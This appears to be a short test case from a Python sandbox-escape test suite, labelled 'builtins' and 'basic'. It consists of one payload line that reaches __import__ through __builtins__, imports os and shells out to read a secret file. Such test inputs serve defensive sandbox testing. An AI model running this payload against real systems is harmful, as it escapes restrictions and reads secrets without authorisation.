# category: builtins
# attack: the __builtins__ name itself, then __import__
# profile: basic
print(__builtins__["__import__"]("os").popen("cat @SECRET_FILE@").read())
